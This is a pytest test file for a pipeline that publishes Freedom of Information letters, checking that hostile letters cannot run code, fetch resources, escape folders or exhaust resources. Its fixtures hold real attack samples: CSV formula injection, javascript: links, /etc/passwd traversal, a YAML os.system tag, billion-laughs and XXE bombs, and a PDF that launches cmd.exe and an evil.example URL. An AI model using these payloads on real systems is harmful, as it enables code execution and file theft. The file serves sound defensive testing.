"""Hostile letters, the whole way: nothing in them runs, fetches, leads out, or hides from a reader."""

import csv
import io
import os
import re
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import hostile_letters as hostile
import pandas as pd
import pytest
from extract.forms import letters
from extract.forms.written_pdf import Sheet, pdf
from playwright.sync_api import Browser, Dialog
from render.html_tree import Element, parse
from test_bad_input import READING, alter_letter, fails, replace

from pipeline.edges.document import load
from pipeline.edges.files import read_folder
from pipeline.edges.hidden import HIDDEN, json_visible, visible
from pipeline.edges.problems import BadInputError
from pipeline.extract.forms import UnreadableLetter
from pipeline.extract.letter import read
from pipeline.interpret.header import file_name
from pipeline.render import reading_view, site

FETCHING = frozenset(
    ["script", "iframe", "object", "embed", "img", "base", "video", "audio", "form", "use", "frame", "applet"]
)
ASSETS = Path(site.__file__).parent / "assets"
LETTER = "coventry/script-fetch-https-evil.example-s-script"


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder in which every stage has run, with the hostile letters among the others."""
    import importlib

    from conftest import copy_inputs

    from pipeline.stages import STAGES

    root = tmp_path_factory.mktemp("hostile")
    copy_inputs(root)
    hostile.put(root)
    for stage in STAGES:
        importlib.import_module(f"pipeline.{stage}.stage").run(root)
    return root


def pages(published: Path) -> Iterator[tuple[str, str]]:
    for path, content in read_folder(published / "site").items():
        if path.endswith((".html", ".svg", ".css")):
            yield path, content.decode()


def is_our_own(element: Element) -> bool:
    """Whether it is a script of the site, data in a script's place, or the form that searches the site."""
    if element.tag == "script":
        folder, _, name = element.attributes.get("src", "").rpartition("/")
        is_data = element.attributes.get("type") == "application/ld+json"
        return is_data or (not element.text and folder.endswith("assets") and (ASSETS / name).is_file())
    return element.tag == "form" and element.attributes.get("action", "").endswith("search.html")


def cells(published: Path, table: str, column: str) -> list[str]:
    with (published / f"processed/{table}.csv").open(encoding="utf-8", newline="") as file:
        return [row[column] for row in csv.DictReader(file)]


# --- pages ---


def test_no_page_holds_an_element_that_runs_or_fetches(published: Path) -> None:
    seen = 0
    for path, text in pages(published):
        if not path.endswith(".html"):
            continue
        for element in parse(text.encode()).walk():
            assert element.tag not in FETCHING or is_our_own(element), (path, element.tag)
            for name, value in element.attributes.items():
                assert not name.startswith("on") and name not in ("style", "srcset", "background"), path
                if name in ("href", "src", "action", "data", "xlink:href", "content"):
                    assert not re.match(r"\s*(?:[a-z]+:|//)", value, re.IGNORECASE), (path, value)
        seen += hostile.ELSEWHERE in text
    assert seen >= 10, "what the letters carry is shown as text on the pages that show letters"


def test_what_is_shown_of_a_letter_is_what_it_says(published: Path) -> None:
    page = parse((published / f"site/letters/{LETTER}.html").read_bytes())
    [shown] = page.all(css="letter-text")
    assert shown.text == visible(hostile.TEXT, "\n\t")
    assert "[RLO]desrever[PDF]" in shown.text and "[U+001B][m" in shown.text and "x[RLO]y" in shown.text


def test_no_page_holds_a_character_that_nobody_sees(published: Path) -> None:
    for path, text in pages(published):
        assert HIDDEN.sub("", text.replace("\n", "").replace("\t", "")) == re.sub(r"[\n\t]", "", text), path


def test_the_descriptor_shows_hidden_characters_by_name(published: Path) -> None:
    text = (published / "datapackage.json").read_text("utf-8")
    assert HIDDEN.sub("", text) == text.replace("\n", "")
    assert "</script>[RLO]evil" in text


def done_by(browser: Browser, paths: list[Path]) -> list[str]:
    """Open pages with JavaScript on, touch what is there, and give all they did but show."""
    context = browser.new_context()
    page = context.new_page()
    did: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        did.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    page.on("console", lambda message: did.append(message.text))
    page.on("pageerror", lambda error: did.append(str(error)))
    page.on("popup", lambda popup: did.append(popup.url))
    page.on(
        "request", lambda asked: None if asked.url.startswith(("file:", "data:")) else did.append(asked.url)
    )
    context.route("http*://**", lambda route: route.abort())
    for path in paths:
        page.goto(path.as_uri())
        for element in page.locator("mark, .mark, td, th, h1").all()[:40]:
            element.dispatch_event("mouseover")
            element.dispatch_event("focus")
        page.wait_for_timeout(100)
        if page.url.partition("#")[0] != path.as_uri():
            did.append(f"{path.name} leads to {page.url}")
    context.close()
    return did


def test_in_a_browser_the_pages_of_hostile_letters_do_nothing(published: Path, browser: Browser) -> None:
    site = published / "site"
    paths = [site / path for path, text in pages(published) if hostile.ELSEWHERE in text]
    assert site / f"letters/{LETTER}.html" in paths
    assert done_by(browser, paths) == []


def test_the_browser_sees_what_the_letter_itself_would_do(tmp_path: Path, browser: Browser) -> None:
    """The proof above can fail: the letter as it was received does act."""
    (tmp_path / "page.html").write_text(hostile.PAGE, encoding="utf-8")
    assert any(hostile.ELSEWHERE in one for one in done_by(browser, [tmp_path / "page.html"]))


@pytest.mark.parametrize("letter", ["text", "page", "mail"])
def test_the_view_of_a_letter_as_it_was_read_does_nothing(
    letter: str, tmp_path: Path, browser: Browser
) -> None:
    data = {"text": hostile.TEXT.encode(), "page": hostile.PAGE.encode(), "mail": hostile.mail()}[letter]
    html = reading_view.page(read(data, "letter"), f"{hostile.SCRIPT}{hostile.OVERRIDE}.txt")
    (tmp_path / "view.html").write_bytes(html)
    assert done_by(browser, [tmp_path / "view.html"]) == []
    tree = parse(html)
    for element in tree.walk():
        assert element.tag not in FETCHING - {"input"}
        if "control" not in element.classes:
            for child in element.children:
                assert not isinstance(child, str) or not HIDDEN.search(re.sub(r"[\n\t]", "", child))


# --- tables ---


def test_programs_get_the_printed_text_to_the_character(published: Path) -> None:
    path = published / "processed/figures.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    by_pandas = set(frame[frame.letter_id == LETTER].row_label)
    query = (
        "SELECT row_label FROM read_csv(?, all_varchar = true) WHERE letter_id = ? AND row_label IS NOT NULL"
    )
    by_duckdb = {row[0] for row in duckdb.execute(query, [str(path), LETTER]).fetchall()}
    parquet = "SELECT row_label FROM read_parquet(?) WHERE letter_id = ? AND row_label IS NOT NULL"
    by_parquet = {
        row[0] for row in duckdb.execute(parquet, [str(path.with_suffix(".parquet")), LETTER]).fetchall()
    }
    assert by_pandas - {""} == by_duckdb == by_parquet == set(hostile.LABELS)
    [text] = [t for t in cells(published, "answers", "text") if t.startswith("=A+B")]
    assert text in hostile.TEXT


def test_words_that_begin_like_a_formula_are_named_in_the_checks(published: Path) -> None:
    with (published / "processed/checks.csv").open(encoding="utf-8", newline="") as file:
        found = {
            row["letter_id"]: (row["outcome"], row["found"])
            for row in csv.DictReader(file)
            if row["expectation"] == "begins_like_a_formula"
        }
    # Four labels, one of them a figure too, a question and an answer; the bullets of other letters are none.
    assert found.pop(LETTER) == ("fail", "7")
    assert set(found.values()) == {("pass", "none")}


@pytest.mark.parametrize(
    ("cell", "why"),
    [
        ("=cmd|'/c calc'!A0", "begins as a formula does"),
        (" @SUM(A1)", "begins as a formula does"),
        ("-2+3", "begins as a formula does"),
        (f"a{hostile.OVERRIDE}b", "holds a character that nobody sees"),
        (f"a{hostile.ESCAPE}[31m", "holds a character that nobody sees"),
        (hostile.SCRIPT, "holds HTML or a link"),
        ("[x](javascript:alert(1))", "holds HTML or a link"),
    ],
)
def test_no_code_list_holds_what_would_run_or_hide(project: Path, cell: str, why: str) -> None:
    replace(project / "raw/codelists/dimensions/sex.csv", "female,Female", f'female,"{cell}"')
    said = fails(project, "interpret")
    assert re.search(r"raw/codelists/dimensions/sex\.csv:\d+: label is .*; it " + why, said), said
    assert HIDDEN.sub("", said) == said.replace("\n", "")


def test_marks_and_signed_numbers_are_labels(project: Path) -> None:
    from pipeline.schemas.codelists import read_code_lists

    replace(project / "raw/codelists/dimensions/sex.csv", "female,Female", "female,-")
    assert read_code_lists(project / "raw/codelists")["sex"].resolve("-") == "female"


# --- names and paths ---


def test_no_letter_leads_out_of_its_folder(published: Path) -> None:
    assert f"{LETTER}.txt" in read_folder(published / "processed/letters")
    assert {path.name for path in published.iterdir()} <= {
        *("raw", "expectations", "releases", "params.yaml", "LICENCE-DATA.md", "staging"),
        *(".cache", "dvc.yaml", "pyproject.toml", "requirements.lock"),
        *("processed", "site", "datapackage.json", "CITATION.cff", ".zenodo.json"),
    }
    archive = next((published / "site/data").glob("*.zip"))
    with zipfile.ZipFile(archive) as opened:
        for name in opened.namelist():
            assert not name.startswith("/") and ".." not in name.split("/") and "\\" not in name
            assert re.fullmatch(r"[A-Za-z0-9._/-]+", name), name


@pytest.mark.parametrize(
    ("reference", "name"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("/etc/passwd", "etc-passwd"),
        ("..\\..\\x", "x"),
        ("C:\\x.", "C-x"),
        ("a\0b", "a-b"),
        ("CON", "FOI-CON"),
        ("nul.2024", "FOI-nul.2024"),
        ("COM1", "FOI-COM1"),
        ("FOI 1. . .", "FOI-1"),
        ("....", None),
        ("\u202e\u2028", None),
        ("9" * 300, "9" * 80),
    ],
)
def test_a_reference_is_a_file_name_on_every_system(reference: str, name: str | None) -> None:
    assert file_name(reference) == name


def test_two_letters_whose_names_differ_in_capitals_alone_are_refused(project: Path) -> None:
    for name, reference in (("a", "foi-1"), ("b", "FOI-1")):
        data = f"Freedom of Information Act 2000\n\n1. Why {name}?\n\nBecause of rain.\n".encode()
        (project / f"raw/coventry/{name}.txt").write_bytes(data)
        (project / f"raw/coventry/{name}.yaml").write_bytes(hostile.reading(reference, data, ""))
    assert "raw/coventry/b.txt: raw/coventry/a.txt has the reference FOI-1 already." in fails(project)


def test_a_link_in_place_of_a_letter_is_not_followed(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "secret.txt"
    outside.write_text("secret", encoding="utf-8")
    (project / "raw/coventry/linked.txt").symlink_to(outside)
    said = fails(project, "extract")
    assert "raw/coventry/linked.txt: this is a link to another file." in said


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "path: LICENCE-DATA.md",
            "path: ../../etc/passwd",
            r"raw/package\.yaml:\d+: the licence '\.\./\.\./etc",
        ),
        (
            "path: LICENCE-DATA.md",
            "path: /etc/passwd",
            r"raw/package\.yaml:\d+: the licence '/etc/passwd' is no",
        ),
        (
            "version: ",
            "homepage: 'javascript:alert(1)'\nversion: ",
            r"the homepage is 'javascript:",
        ),
        ("name: foi", "name: ../foi", r"the name is '\.\./foi"),
    ],
)
def test_package_metadata_leads_nowhere_else(project: Path, old: str, new: str, expected: str) -> None:
    from pipeline.package.metadata import read as read_metadata

    replace(project / "raw/package.yaml", old, new, 1)
    with pytest.raises(BadInputError) as raised:
        read_metadata((project / "raw/package.yaml").read_bytes(), "raw/package.yaml")
    assert re.search(expected, str(raised.value))


# --- YAML ---

LAUGHS = b"a: &a [x, x]\n" + b"".join(b"b%d: &b%d [*a, *a]\n" % (i, i) for i in range(30))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(LAUGHS, "anchors and aliases are not read", id="billion laughs"),
        pytest.param(b"a: " + b"[" * 100_000, "nested too deeply", id="deep flow"),
        pytest.param(b"a: " + b"{a: " * 100_000, "nested too deeply", id="deep mappings"),
        pytest.param(
            b"".join(b" " * i + b"a:\n" for i in range(2000)), "nested too deeply", id="deep blocks"
        ),
        pytest.param(b"a: !!python/object/apply:os.system [id]\n", "tag .* is not read", id="python tag"),
        pytest.param(b"a: !!binary aGk=\n", "tag .* is not read", id="binary tag"),
        pytest.param(b"? [a]\n: b\n", "a key is itself a list", id="list as key"),
        pytest.param(b"<<: *a\n", "", id="merge key"),
        pytest.param(b'a: "\\ud800"\n', "", id="half a character"),
    ],
)
@pytest.mark.parametrize("file", [READING, "raw/package.yaml", "params.yaml"])
def test_a_yaml_bomb_is_refused_at_once(file: str, content: bytes, expected: str) -> None:
    began = time.monotonic()
    with pytest.raises(BadInputError) as raised:
        load(content, file)
    assert time.monotonic() - began < 10
    assert str(raised.value).startswith(file) and re.search(expected, str(raised.value))


# --- terminals ---


def test_an_error_message_carries_no_escape_and_no_direction(project: Path) -> None:
    alter_letter(
        project,
        "raw/coventry/2025-10-21-FOI746230783.txt",
        "366 children",
        f"{hostile.ESCAPE}[2J{hostile.OVERRIDE}417 adults\x9b31m, 366 children",
    )
    said = fails(project)
    assert "417" in said
    assert HIDDEN.sub("", said) == said.replace("\n", "")


def test_extract_prints_json_that_no_terminal_obeys(tmp_path: Path) -> None:
    import json

    text = (
        f"1. How many?\n\nWe had 5 \x9b31m{hostile.OVERRIDE}{hostile.SEPARATOR}{hostile.ESCAPE}c\x7f calls.\n"
    )
    (tmp_path / "letter.txt").write_text(text, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "pipeline", "extract", str(tmp_path / "letter.txt")],
        capture_output=True,
        cwd=Path(__file__).parents[1],
        check=True,
    )
    printed = done.stdout.decode()
    assert HIDDEN.sub("", printed) == printed.replace("\n", "")
    assert json.loads(printed)["answers"][0]["text"] == text[14:-1]


def test_json_with_hidden_characters_escaped_is_the_same_json() -> None:
    import json

    value = {"a\u202e": "\x9b\u2028\U000e0041\ufeff", "b": ["\x00\n\t", "ordinary é"]}
    printed = json_visible(json.dumps(value, ensure_ascii=False, indent=1))
    assert json.loads(printed) == value
    assert HIDDEN.sub("", printed) == printed.replace("\n", "") and "é" in printed


# --- letters that fetch, swell or break ---


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Whoever asks for the network is written down and refused; so is who starts a program."""
    asked: list[object] = []

    def refuse(*arguments: object, **_: object) -> None:
        asked.append(arguments)
        raise OSError("there is no network")

    refused: list[tuple[object, str]] = [
        *((socket, "getaddrinfo"), (socket.socket, "connect"), (socket, "create_connection")),
        *((subprocess.Popen, "__init__"), (os, "system"), (os, "popen")),
    ]
    for owner, name in refused:
        monkeypatch.setattr(owner, name, refuse)
    return asked


def acting_pdf() -> bytes:
    """A PDF that would run JavaScript and start a program when it is opened."""
    plain = pdf(Sheet().lines(50, 80, ["1. How many?", "We had 5 calls."]))
    catalogue = re.search(rb"/Type\s*/Catalog", plain)
    assert catalogue
    action = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>"
        b" /AA << /WC << /S /Launch /F (cmd.exe) >> >> "
    )
    return plain[: catalogue.start()] + action + plain[catalogue.start() :]


def with_parts(data: bytes, parts: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """An office file with some of its parts changed."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as archive,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        names = archive.namelist()
        for name in [*names, *(name for name in parts if name not in names)]:
            content = archive.read(name) if name in names else b""
            new.writestr(name, parts[name](content) if name in parts else content)
    return packed.getvalue()


def remote_docx() -> bytes:
    """A DOCX whose template, a picture and a frame stand elsewhere."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="evil{i}" Type="{base}/{kind}" Target="https://{hostile.ELSEWHERE}/{kind}"'
        ' TargetMode="External"/>'
        for i, kind in enumerate(kinds)
    ).encode()
    return with_parts(
        letters.of_docx(),
        {
            "word/_rels/document.xml.rels": lambda old: old.replace(
                b"</Relationships>", relations + b"</Relationships>"
            )
        },
    )


@pytest.mark.parametrize(
    "write",
    [
        pytest.param(hostile.TEXT.encode, id="text"),
        pytest.param(hostile.PAGE.encode, id="page"),
        pytest.param(hostile.mail, id="mail"),
        pytest.param(acting_pdf, id="pdf that acts"),
        pytest.param(remote_docx, id="docx with a remote template"),
    ],
)
def test_reading_a_letter_asks_for_nothing_from_elsewhere(
    write: Callable[[], bytes], offline: list[object]
) -> None:
    structure = read(write(), "letter")
    assert structure.text.strip()
    assert offline == []


def test_what_a_page_hides_or_fetches_is_no_text_of_the_letter() -> None:
    text = read(hostile.PAGE.encode(), "letter.html").text
    assert "We had 17 calls in 2010/11. Here" in text
    assert hostile.ELSEWHERE not in text


def entities(_: bytes) -> bytes:
    return (
        b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
        b"<d>&b;&f;</d>"
    )


@pytest.mark.parametrize(
    ("write", "part"),
    [
        (letters.of_docx, "word/document.xml"),
        (letters.of_xlsx, "xl/workbook.xml"),
        (letters.of_odt, "content.xml"),
    ],
)
@pytest.mark.parametrize("bomb", ["expands", "declares"])
def test_an_office_file_that_swells_is_refused_at_once(
    write: Callable[[], bytes], part: str, bomb: str
) -> None:
    change = entities if bomb == "declares" else lambda old: old + b" " * 60_000_000
    data = with_parts(write(), {part: change})
    assert len(data) < 1_000_000
    began = time.monotonic()
    with pytest.raises(UnreadableLetter) as raised:
        read(data, "letter")
    assert time.monotonic() - began < 5
    assert re.search("expands to far more than a letter holds|declares entities", str(raised.value))


def test_bombs_attached_to_a_letter_are_named_and_the_letter_is_read() -> None:
    from email.message import EmailMessage

    bomb = with_parts(letters.of_docx(), {"word/document.xml": lambda old: old + b" " * 60_000_000})
    mail = EmailMessage()
    mail["From"], mail["To"] = "foi@council.example", "a@example.org"
    mail["Subject"], mail["Date"] = "Answer", "Thu, 2 May 2013 10:00:00 +0000"
    mail.set_content("1. How many?\n\nWe had 5 calls.\n")
    for i in range(60):
        mail.add_attachment(bomb, maintype="application", subtype="zip", filename=f"../{i}.docx")
    began = time.monotonic()
    structure = read(mail.as_bytes(), "letter.eml")
    assert time.monotonic() - began < 60
    assert [figure.text for figure in structure.figures] == ["5"]
    why = [one.why for one in structure.unread]
    assert len(why) == 60
    assert sum("expands to far more" in one for one in why) == 50
    assert sum("more than 50 files are attached" in one for one in why) == 10


def test_letters_within_letters_are_counted_together() -> None:
    from email.message import EmailMessage

    def nested(depth: int) -> EmailMessage:
        mail = EmailMessage()
        mail["From"], mail["To"] = "foi@council.example", "a@example.org"
        mail["Subject"], mail["Date"] = "Answer", "Thu, 2 May 2013 10:00:00 +0000"
        mail.set_content("We had 5 calls.\n")
        for _ in range(20 if depth else 0):
            mail.add_attachment(nested(depth - 1))
        return mail

    structure = read(nested(2).as_bytes(), "letter.eml")
    assert structure.text.count("We had 5 calls.") == 1 + 50


LONG = pytest.mark.long
HEAD = "Coventry City Council\nFreedom of Information Act 2000\n\n1. How many?\n\n"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"{HEAD}There were {'9' * 100_000} children.", id="a number of 100,000 digits"),
        pytest.param(f"{HEAD}Year\tCount\n2020\t{'9' * 5000}\n2021\t5\n", id="a cell of 5,000 digits"),
        pytest.param(HEAD + "a" * 1_000_000, id="a word of a million characters", marks=LONG),
        pytest.param(HEAD + "Ada Example " * 80_000, id="a line of a million characters", marks=LONG),
        pytest.param(HEAD + "(" * 300_000, id="300,000 brackets"),
        pytest.param(
            "\n\n".join(f"{i}. How many in {i}?\n\nWe had {i}." for i in range(1, 3001)), id="3,000 questions"
        ),
        pytest.param(
            "".join(f"{','.join(f'{row}' for _ in range(100_000))}\n" for row in ("x", "5")),
            id="100,000 columns",
            marks=LONG,
        ),
        pytest.param(f"<html><body>{'<div>' * 100_000}5 calls", id="deep HTML"),
        pytest.param(f"<html><table>{'<tr><td>' * 5_000}5 calls", id="tables within tables"),
        pytest.param(
            "<html><table><tr><td colspan=100000 rowspan=65534>5</td></tr></table>", id="a cell over all"
        ),
    ],
)
def test_a_letter_out_of_all_measure_is_read_or_refused(text: str) -> None:
    began = time.monotonic()
    try:
        structure = read(text.encode(), "letter.csv" if text.startswith("x,") else "letter")
    except UnreadableLetter as error:
        assert "elements within elements" in str(error)
    else:
        assert len(structure.text) <= 2_000_000
    assert time.monotonic() - began < 200


def test_time_grows_with_the_columns_and_not_with_their_square() -> None:
    def seconds(n: int) -> float:
        data = "".join(f"{','.join(row for _ in range(n))}\n" for row in ("x", "5")).encode()
        began = time.process_time()
        read(data, "letter.csv")
        return time.process_time() - began

    few, many = seconds(500), seconds(4_000)
    assert many < 20 * few  # eight times the columns


# --- encodings ---


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"From: a@example.org\nMIME-Version: 1.0\nDate: Mon, 2 Jun 2025 10:00:00 +0000\n"
                     b"Subject: a\n\n5 calls \xff +2AA-", id="bytes of no encoding"),
        pytest.param(b"From: a@example.org\nMIME-Version: 1.0\nDate: Mon, 2 Jun 2025 10:00:00 +0000\n"
                     b"Content-Type: text/plain; charset=utf-7\n\n5 calls +2AA- +ADw-b+AD4-", id="UTF-7"),
        pytest.param(b"<html><meta charset=utf-7><body><p>5 calls +2AA-</p></body></html>", id="UTF-7 page"),
        pytest.param(b"<html><meta charset=unicode_escape><p>5 calls \\ud800 \\x00</p></html>", id="escapes"),
        pytest.param(b"<html><meta charset=punycode><p>5 calls " + b"k" * 90_000 + b"</p>", id="punycode"),
        pytest.param(b"<html><body><p>5 calls &#xD800; &#0; &#x202e;</p></body></html>", id="references"),
        pytest.param(b"5 calls \xed\xa0\x80 \xc0\xbcscript\xc0\xbe", id="surrogates and overlong forms"),
        pytest.param(b"{\\rtf1 \\'00 \\u-10240? \\u0? 5 calls}", id="RTF"),
    ],
)  # fmt: skip
def test_whatever_the_bytes_the_text_can_be_written(data: bytes) -> None:
    began = time.monotonic()
    text = read(data, "letter").text
    assert time.monotonic() - began < 30
    assert "5 calls" in text
    assert text.encode().decode() == text
    assert not re.search("[\0\ud800-\udfff]", text)


def test_text_in_utf_16_without_its_mark_is_refused_with_the_mend() -> None:
    with pytest.raises(UnreadableLetter, match="Save the letter as"):
        read(hostile.TEXT.encode("utf-16-le"), "letter.txt")
